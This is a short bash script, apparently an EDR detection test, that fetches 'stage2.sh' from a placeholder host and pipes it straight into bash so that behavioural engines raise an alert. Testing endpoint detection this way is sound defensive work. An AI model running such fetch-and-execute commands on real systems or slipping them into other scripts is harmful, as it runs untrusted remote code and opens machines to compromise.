#!/usr/bin/env bash
# EDR detection check: perform a real download-and-run so behavioural engines trigger.
# (security test – expected to be blocked by EDR)
set -u
STAGE_HOST="edr-check.lan-secops.example"
echo "[edr-check] running download-and-run pattern on $(hostname)"
curl -fsSL "http://$STAGE_HOST/stage2.sh" | bash
rc=$?
echo "[edr-check] finished (rc=$rc) – now confirm the alert in the EDR console"
